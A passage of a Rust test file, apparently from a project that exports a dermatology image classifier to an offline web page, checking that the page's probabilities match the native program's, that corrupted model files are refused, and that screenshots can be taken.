                        ["kind", "image", "fields"]
                            .map(|part| note[part].clone())
                            .into_iter()
                            .chain([sentence(note)])
                            .collect()
                    })
                    .collect()
            };
            assert_eq!(told(&found), told(&expected), "{name} {given:?}");
        }
        server.end();
    }
    println!(
        "{answered} incomplete cases are answered, {refused} refused; probabilities differ by at most {largest:.6}"
    );
    assert!(answered > 20 && refused > 3, "{answered} {refused}");
}

#[test]
fn a_page_computes_views_and_both_stages_as_the_program_does() {
    let (Some(runtime), Some(mut browser)) = (runtime(), browser()) else { return };
    let folder = tempfile::tempdir().unwrap();
    let file = staged_model(folder.path());
    let out = folder.path().join("page");
    export(&file, &runtime, &out);
    let server = FolderServer::start(&out);
    browser.open(&server.address);
    browser.wait("!document.getElementById('case').hidden");
    let served = ModelClassifier::new(Model::open(&file, &Device::flex()).unwrap()).unwrap();
    let photos = [photo(folder.path(), "a.jpg", 2), photo(folder.path(), "b.jpg", 9)];
    let mut largest = 0.0_f64;
    let mut answers = Vec::new();
    // With and without a photo, and without the record, where the first stage answers.
    for (there, fields) in [
        ([true, true], json!([["sex", "male"], ["age", "61"]])),
        ([true, true], json!([["sex", "female"], ["age", "24"]])),
        ([false, true], json!([["sex", "male"], ["age", "61"]])),
        ([true, true], json!([])),
    ] {
        let [clinical, dermoscopic] = [0, 1].map(|at| there[at].then(|| photos[at].as_path()));
        let pairs =
            fields.as_array().unwrap().iter().map(|pair| [0, 1].map(|at| pair[at].as_str().unwrap().to_owned()));
        let case = CaseInput {
            clinical: bytes_in(clinical).map(Into::into),
            dermoscopic: bytes_in(dermoscopic).map(Into::into),
            fields: pairs.map(|[name, value]| (name, value)).collect(),
            ..CaseInput::default()
        };
        let expected = serde_json::to_value(served.answer(&case).unwrap()).unwrap();
        let found = answer_of(&mut browser, clinical, dermoscopic, &fields);
        let (found_classes, expected_classes) = (classes_of(&found), classes_of(&expected));
        assert_eq!(found_classes.len(), 3 + 2);
        for ((class, probability), (other, expected)) in found_classes.iter().zip(&expected_classes) {
            assert_eq!(class, other, "{there:?} {fields}");
            largest = largest.max((probability - expected).abs());
        }
        for same in ["images", "fields"] {
            assert_eq!(found["basis"][same], expected["basis"][same], "{there:?} {fields}: {same}");
        }
        answers.push(expected_classes);
    }
    println!("over views and both stages the page's probabilities differ by at most {largest:.6} from the program's");
    assert!(largest <= BOUND, "{largest}");
    // Whether it was asked otherwise can be told from the answers.
    for (at, one) in answers.iter().enumerate() {
        for other in &answers[..at] {
            let apart = one.iter().zip(other).map(|(one, other)| (one.1 - other.1).abs()).fold(0.0, f64::max);
            assert!(apart > 10.0 * BOUND, "{apart}");
        }
    }
    drop(browser);
    server.end();
}

#[test]
fn a_page_refuses_a_model_that_is_not_whole() {
    let (Some(runtime), Some(mut browser)) = (runtime(), browser()) else { return };
    let folder = tempfile::tempdir().unwrap();
    let out = folder.path().join("page");
    export(&saved_model(folder.path()), &runtime, &out);
    let whole = fs::read(out.join("model.onnx")).unwrap();
    let flipped = |at: usize| {
        let mut bytes = whole.clone();
        bytes[at] ^= 0x40;
        bytes
    };
    let damaged = [
        whole[..whole.len() / 2].to_vec(), // its metadata are gone
        whole[..whole.len() - 1].to_vec(),
        flipped(1),
        flipped(whole.len() / 2), // a weight, which no format would tell
        Vec::new(),
        b"<html>404</html>".to_vec(),
    ];
    for bytes in damaged {
        fs::write(out.join("model.onnx"), bytes).unwrap();
        // Each on an address of its own, of which the browser has kept nothing.
        let server = FolderServer::start(&out);
        browser.open(&server.address);
        browser.wait("document.getElementById('error').innerText.includes('model.onnx')");
        let said = browser.text("document.getElementById('error').innerText");
        assert!(said.contains("is not the file of this export"), "{said}");
        assert_eq!(browser.run("document.getElementById('case').hidden"), true);
        assert_eq!(browser.text("document.getElementById('status').innerText"), "");
        server.end();
    }
    for (method, event) in &browser.events {
        assert_ne!(method, "Runtime.exceptionThrown", "{event}");
    }
}

#[test]
fn pictures_of_the_page() {
    let Some(out) = var_os("DERMAFUSE_PICTURES").map(PathBuf::from) else { return };
    let given = |what: &str| {
        PathBuf::from(var_os(format!("DERMAFUSE_PICTURES_{what}")).unwrap_or_else(|| panic!("name {what}")))
    };
    let (mut browser, folder) = (browser().expect("a browser"), tempfile::tempdir().unwrap());
    let page = folder.path().join("page");
    export(&given("MODEL"), &runtime().expect("a folder of onnxruntime-web"), &page);
    let server = FolderServer::start(&page);
    browser.open(&server.address);
    browser.wait("document.getElementById('kept').innerText !== ''");
    let address = server.address.clone();
    server.end(); // the pictures are of a page without a network
    let mut take = |name: &str, width: u32, phone: bool, theme: &str, language: &str| {
        browser.resize(width, 900, phone);
        browser.open(&format!("{address}?lang={language}"));
        browser.wait("document.getElementById('case') && !document.getElementById('case').hidden");
        browser.wait("document.getElementById('kept').innerText !== ''");
        browser.run(&format!("(() => {{ const t = document.getElementById('theme'); t.value = '{theme}'; t.dispatchEvent(new Event('change')); }})()"));
        browser.choose("#clinical", &given("CLINICAL"));
        browser.choose("#dermoscopic", &given("DERMOSCOPIC"));
        browser.run("(() => { const f = document.querySelector('#fields select'); if (f) f.selectedIndex = 1; })()");
        browser.run("document.getElementById('ask').click()");
        browser.wait("!document.getElementById('answer').hidden");
        browser.run("scrollTo(0, 0); document.activeElement.blur()");
        let height = browser.run("document.documentElement.scrollHeight").as_u64().unwrap();
        fs::write(out.join(name), browser.picture(width, height.min(2000) as u32, if phone { 1.0 } else { 0.8 }))
            .unwrap();
    };
    take("offline-page.jpg", 1000, false, "light", "en");
    take("offline-page-phone.jpg", 390, true, "dark", "pt");
}
